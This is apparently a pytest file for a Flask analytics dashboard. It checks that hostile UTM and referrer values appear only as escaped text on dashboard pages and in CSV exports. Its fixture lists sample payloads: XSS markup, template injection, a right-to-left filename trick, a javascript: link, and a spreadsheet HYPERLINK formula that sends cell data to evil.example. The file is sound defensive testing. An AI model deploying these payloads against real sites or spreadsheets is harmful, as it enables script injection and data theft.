"""What visitors bring along is text, whatever it looks like: on every page, in every file."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode

import pytest
from dashboard_app import dashboard_on
from dashboard_sign_in import signed_in
from factories import NOV_1, visit
from flask import Flask
from support import Client, Page

from wizard.app import recorder_of
from wizard.maintenance.spreadsheet import FORMULA

HOSTILE = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)>\"'></a></bdi></td>",
    "template": "{{ 7 * 7 }} {% raw %} %s {0}",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "formula behind a separator": "a;=1+1\t@SUM(A1)",
    "right to left": "\u202egnp.exe\u2066 \u05d0\u05d1\u05d2",
    "10 KB": "long" * 2560,
    "line ends": "one\r\n-2+3\n",
    "address": "javascript:alert(1)//?a=1&period=today#x",
}
SLOTS = ("utm_source", "utm_campaign", "utm_term", "referrer_host", "embed_origin", "embed_path")


@pytest.fixture(params=list(HOSTILE.values()), ids=list(HOSTILE))
def value(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def app(tmp_path: Path, value: str) -> Iterator[Flask]:
    """A dashboard whose one journey has `value` in its attribution, put there past all cleaning."""
    with dashboard_on(f"sqlite:///{tmp_path}/log.db") as app:
        recorder_of(app).log.append(visit("j-1", NOV_1, **dict.fromkeys(SLOTS, value)))
        yield app


@pytest.fixture
def client(app: Flask) -> Client:
    return signed_in(app)


def look(page: Page, value: str) -> None:
    """It is there as text, set apart from what is around it, and has become nothing else."""
    assert page.status == 200
    assert [bdi for bdi in page.all("bdi") if bdi.get_text() == value]
    assert not page.all("script:not([src^='/static/']), img, iframe, [onerror]")
    marks = {"\u202e", "\u2066"} & set(value)
    around = page.html.select("body")[0]
    for bdi in page.all("bdi"):
        bdi.extract()
    assert not any(mark in around.get_text() for mark in marks)
    for link in page.all("a"):
        assert str(link["href"]).startswith(("/growth", "/embed", "#"))


def test_the_list_shows_it_as_text(client: Client, value: str) -> None:
    look(client.page("/growth/journeys"), value)


def test_a_journey_shows_it_as_text(client: Client, value: str) -> None:
    look(client.page("/growth/journeys/j-1"), value)


def test_filtering_by_it_finds_it_and_shows_it_as_text(client: Client, value: str) -> None:
    page = client.page(f"/growth/journeys?{urlencode({'campaign': value, 'period': '28d'})}")
    assert page.one(".count strong").get_text() == "1"
    look(page, value)
    assert str(page.one(".chips a:not(.clear)")["href"]) == "/growth/journeys?period=28d"


@pytest.mark.parametrize("what", ["journeys", "events"])
def test_no_cell_of_a_spreadsheet_begins_a_formula(client: Client, value: str, what: str) -> None:
    with client.get(f"/growth/export/{what}.csv?period=28d") as response:
        rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert rows
    for row in rows:
        assert row["utm_campaign"].replace("'", "") == value.replace("'", "")
        assert not any(FORMULA.search(cell) for cell in row.values())
